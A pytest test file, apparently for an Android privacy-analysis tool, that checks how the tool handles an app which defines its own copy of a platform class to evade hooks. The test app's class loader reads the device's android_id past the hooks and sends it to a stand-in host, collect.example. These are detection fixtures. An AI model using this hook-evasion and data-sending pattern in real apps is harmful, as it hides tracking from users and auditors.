"""An app whose own class loader defines a class of the platform, which no hook sees being called; and one that brings
classes only of libraries, some with names like the platform's."""

from __future__ import annotations

import json
import zipfile
from pathlib import Path
from typing import Any

import pytest

from tests import command
from tests.javaapp import NEEDS_JAVAC, compiled, manifest, packed

pytestmark = [pytest.mark.device, NEEDS_JAVAC]

PACKAGE = "com.example.ownclass"
#: Its loader takes what it brings before it asks the platform.
MAIN = """package com.example.ownclass;
import android.content.ContentResolver;
import java.io.InputStream;
import java.net.*;
public class Main extends android.app.Activity {
    static class ChildFirst extends ClassLoader {
        ChildFirst(ClassLoader parent) { super(parent); }
        @Override protected Class<?> loadClass(String name, boolean resolve) throws ClassNotFoundException {
            Class<?> known = findLoadedClass(name);
            if (known != null) return known;
            try (InputStream in = Main.class.getResourceAsStream("/payload/" + name)) {
                if (in == null) return super.loadClass(name, resolve);
                byte[] code = in.readAllBytes();
                return defineClass(name, code, 0, code.length);
            } catch (java.io.IOException e) { throw new ClassNotFoundException(name); }
        }
    }
    @Override protected void onCreate(android.os.Bundle state) {
        super.onCreate(state);
        new Thread(() -> {
            try {
                android.provider.Settings.Secure.getString(getContentResolver(), "bluetooth_name");
                ClassLoader own = new ChildFirst(Main.class.getClassLoader());
                String sent = "hello";
                for (String name : "%s".split(" ")) {
                    Class<?> one = own.loadClass(name);
                    if (one.getClassLoader() != own) throw new IllegalStateException(name);
                    if (!name.endsWith("Secure")) continue;
                    sent = (String) one.getMethod("getString", ContentResolver.class, String.class)
                        .invoke(null, getContentResolver(), "android_id");
                }
                ((HttpURLConnection) new URL("http://collect.example/i?v=" + sent).openConnection()).getResponseCode();
                if (!sent.equals("hello")) System.exit(0);
            } catch (Throwable e) { android.util.Log.e("own", "failed", e); System.exit(9); }
        }).start();
    }
}"""
#: By the class that the loader is asked for. The first reads the setting past every hook.
HOSTILE = {
    "android/provider/Settings": """package android.provider;
public class Settings { public static class Secure {
    public static String getString(android.content.ContentResolver r, String name) {
        return "" + standin.Device.call("settings.get", java.util.Map.of("ns", "secure", "key", name));
    }
} }"""
}
LAWFUL = {
    "javax/inject/Inject": "package javax.inject; public @interface Inject {}",
    "org/json/JSONObject": "package org.json; public class JSONObject {}",
    "android/support/v4/app/ActivityCompat": "package android.support.v4.app; public class ActivityCompat {}",
    "com/example/plugin/Plugin": "package com.example.plugin; public class Plugin {}",
}


def session(folder: Path, brought: dict[str, str], asked: str) -> dict[str, Any]:
    """The lines of the rules in the coverage, by ID."""
    (folder / "payload").mkdir()
    payload = compiled(folder / "payload", brought)
    about = manifest(PACKAGE, "Main", permissions=["INTERNET"])
    app = packed(folder, about, {f"{PACKAGE}.Main".replace(".", "/"): MAIN % asked})
    with zipfile.ZipFile(app, "a") as archive:
        for path in payload.rglob("*.class"):
            name = path.relative_to(payload).with_suffix("").as_posix().replace("/", ".")
            archive.write(path, f"classes/payload/{name}")
    (folder / "s.yaml").write_text(f"appId: {PACKAGE}\n---\n- launchApp\n- idle: 4s\n")
    done = command.run("run", folder / "s.yaml", "--app", app, "--quiet", "--out", folder / "bundle", cwd=folder)
    assert done.returncode in (0, 1), done.stderr
    lines = [json.loads(line) for line in (folder / "bundle" / "coverage.jsonl").read_text("utf-8").splitlines()]
    return {line["id"]: line for line in lines if line["line"] == "rule"}


def test_a_class_of_the_platform_that_the_app_defines_hides_what_it_does(tmp_path: Path) -> None:
    """… although it ends at once; but not what it sends: the device tells the value, too."""
    rules = session(tmp_path, HOSTILE, "android.provider.Settings$Secure")
    hidden = {rule for rule, line in rules.items() if "class_of_app" in [one["code"] for one in line["reasons"]]}
    assert hidden and {rules[rule]["state"] for rule in hidden} == {"not_observable"}
    why = next(one for one in rules[min(hidden)]["reasons"] if one["code"] == "class_of_app")
    assert why["params"]["names"] == "android.provider.Settings$Secure"
    found = [json.loads(line) for line in (tmp_path / "bundle" / "findings.jsonl").read_text("utf-8").splitlines()]
    sent = {(f["rule"], f["status"], f["grade"]) for f in found if f["data_type"] == "android_id"}
    assert sent >= {("COL-03", "evidenced", "collection"), ("SHR-03", "evidenced", "collection")}
    assert {f["detail"].get("known_from", "")[:9] for f in found if f["data_type"] == "android_id"} == {"f=/data/s"}


def test_classes_of_libraries_are_nobodys_disguise(tmp_path: Path) -> None:
    rules = session(tmp_path, LAWFUL, " ".join(LAWFUL).replace("/", "."))
    assert rules["SHR-03"]["state"] == "silent", rules["SHR-03"]
